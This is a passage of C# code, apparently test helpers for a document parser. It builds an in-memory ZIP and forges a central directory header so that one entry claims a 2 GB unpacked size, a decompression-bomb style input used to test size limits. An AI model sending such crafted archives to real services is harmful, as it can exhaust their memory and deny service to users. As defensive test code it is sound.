        using var file = new MemoryStream();
        using (var archive = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in parts)
            {
                using var entry = archive.CreateEntry(name).Open();
                entry.Write(Encoding.UTF8.GetBytes(text));
            }
        }
        return file.ToArray();
    }

    /// <summary>Declares an entry with an unpacked size of 2 GB.</summary>
    private static byte[] Bomb()
    {
        var zip = Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"));
        var at = zip.AsSpan().LastIndexOf("PK\x01\x02"u8);
        BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(at + 24), 2_000_000_000);
        return zip;
    }
}
